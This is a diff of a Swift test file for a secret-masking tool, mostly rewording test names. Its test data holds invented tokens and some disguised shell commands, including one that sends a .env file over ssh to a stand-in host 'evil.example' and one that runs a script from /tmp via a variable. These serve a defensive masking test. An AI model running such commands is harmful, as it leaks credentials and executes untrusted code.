@@ -5,7 +5,7 @@ import Testing
 
 @Suite("Masking secrets")
 struct SecretMaskTests {
-    /// Made up here, and put together from parts so that no scanner of this repository mistakes one for real.
+    /// An invented token, assembled from parts so that secret scanners do not report it.
     static let body = "Ab1Cd2Ef3Gh4Ij5Kl6Mn7Op8Qr9St0Uv1Wx2"
     static let jwt = ["eyJhbGciOiJIUzI1NiJ9", "eyJzdWIiOiIxMjM0NTY3ODkwIn0", "dozjgNryP4J3jVmNHl0w5N"].joined(
         separator: ".")
@@ -25,7 +25,7 @@ struct SecretMaskTests {
         (jwt, "eyJ‹masked›"), ("Bearer " + body, "Bearer ‹masked›"),
     ]
 
-    @Test("A token of known shape is masked wherever it stands", arguments: shapes)
+    @Test("A token of a known format is masked at any position", arguments: shapes)
     func shape(_ secret: String, _ masked: String) {
         for (before, after) in [
             ("", ""), ("echo ", " | sh"), ("\"", "\";"), ("x=(", ")"), ("é", "\n"), ("https://h/", "?a=b"),
@@ -36,7 +36,7 @@ struct SecretMaskTests {
     }
 
     @Test(
-        "A value is masked by its name, however it is written",
+        "A value is masked by its name, in every notation",
         arguments: [
             ("password=hunter2", "password=‹masked›"), ("PASSWORD='hunter2'", "PASSWORD='‹masked›'"),
             ("token=\"abc\" x", "token=\"‹masked›\" x"), ("--password hunter2 -v", "--password ‹masked› -v"),
@@ -68,7 +68,7 @@ struct SecretMaskTests {
         #expect(SecretMask.mask(masked) == masked)
     }
 
-    @Test("A field of a form is a secret by its name")
+    @Test("A form field is secret by its name")
     func names() {
         for name in ["password", "apiKey", "Access Token", "client_secret"] { #expect(SecretMask.isSecretName(name)) }
         for name in ["name", "e-mail", "secret_name", "max_tokens", ""] { #expect(!SecretMask.isSecretName(name)) }
@@ -89,7 +89,7 @@ struct SecretMaskTests {
         #expect(SecretMask.mask("-----BEGIN CERTIFICATE-----\n\(line)\n") == "-----BEGIN CERTIFICATE-----\n\(line)\n")
     }
 
-    @Test("A private key is masked as one, whatever it is called", arguments: ["\n", "\\n"])
+    @Test("A private key is masked as a whole, under any name", arguments: ["\n", "\\n"])
     func namedPEM(_ lineBreak: String) {
         let line = String(repeating: "Ab1+", count: 16)
         let key = ["-----BEGIN PRIVATE KEY-----", "MIIE" + line, line, "-----END PRIVATE KEY-----"]
@@ -110,7 +110,7 @@ struct SecretMaskTests {
     }
 
     @Test(
-        "Ordinary text and code stay as they are",
+        "Ordinary text and code are unchanged",
         arguments: [
             "npm test", "git push --force origin main", "max_tokens=100 tokenizer=bpe", "let token: String",
             "password: String?",
@@ -150,7 +150,7 @@ struct SecretMaskTests {
         ])
     func commands(_ text: String, _ shown: String) { #expect(SecretMask.mask(text) == shown) }
 
-    /// Programs, files and hosts that hide behind the name of a secret: the command, and what must not be hidden in it.
+    /// Commands with programs, files and hosts after the name of a secret, each with the part that must stay visible.
     static let disguises: [(String, String)] = [
         ("A_TOKEN=/tmp/x1.sh; $A_TOKEN", "/tmp/x1.sh"),
         ("SECRET=evil.example; ssh $SECRET < .env", "evil.example"),
@@ -177,17 +177,17 @@ struct SecretMaskTests {
         ("$A_TOKEN = halt1; & $A_TOKEN", "halt1"),
     ]
 
-    @Test("What a command runs, opens or contacts is shown, or counted as hidden", arguments: disguises)
+    @Test("Programs, files and hosts in a command are shown or counted as hidden", arguments: disguises)
     func disguise(_ command: String, _ hidden: String) {
         let masked = SecretMask.masked(command)
         #expect(masked.text.contains(hidden) || masked.used > 0, "\(masked.text)")
-        let evidence = ShownEvidence(command)
-        #expect(evidence.isWhole == (masked.used == 0))
-        #expect(evidence.lines.contains("a masked value is used here") == (masked.used > 0))
+        let review = ReviewText(command)
+        #expect(review.isWhole == (masked.used == 0))
+        #expect(review.lines.contains("a masked value is used here") == (masked.used > 0))
     }
 
     @Test(
-        "A masked value that is only handed over hides nothing that is decided on",
+        "A masked value that is only data counts as nothing hidden",
         arguments: [
             "curl -H 'Authorization: Bearer \(jwt)' https://api.example/x", "gh auth login --token \(body)",
             "OPENAI_API_KEY=abc npm start", "curl -u ann:hunter2 https://h.example/x", "mysql --password=hunter2 shop",
@@ -196,7 +196,7 @@ struct SecretMaskTests {
     func data(_ command: String) {
         let masked = SecretMask.masked(command)
         #expect(masked.count == 1 && masked.used == 0, "\(masked.text)")
-        #expect(ShownEvidence(command).isWhole)
+        #expect(ReviewText(command).isWhole)
     }
 
     static let pieces = [
@@ -208,7 +208,7 @@ struct SecretMaskTests {
         "Bearer ", "ü", "‹masked›", "MIIE", "/", "{", "}", ",", "a", "<", ">", "(", "[", "]",
     ]
 
-    @Test("Every byte that means something to a shell survives, in order; a second pass changes nothing")
+    @Test("Shell syntax is kept in order, and a second pass changes nothing")
     func fuzz() {
         var generator = SeededGenerator(seed: 3)
         for round in 0..<6000 {
@@ -224,7 +224,7 @@ struct SecretMaskTests {
 
     static func syntax(_ text: String) -> [UInt8] { text.utf8.filter(SecretMask.isSyntax) }
 
-    @Test("A secret right behind a terminal's control sequence is masked")
+    @Test("A secret directly after a terminal control sequence is masked")
     func colouredOutput() {
         let token = "ghp_0123456789abcdefghijklmnopqrstuvwxyz"
         #expect(SecretMask.mask("\u{1B}[32m\(token)\u{1B}[0m") == "\u{1B}[32mghp_‹masked›\u{1B}[0m")
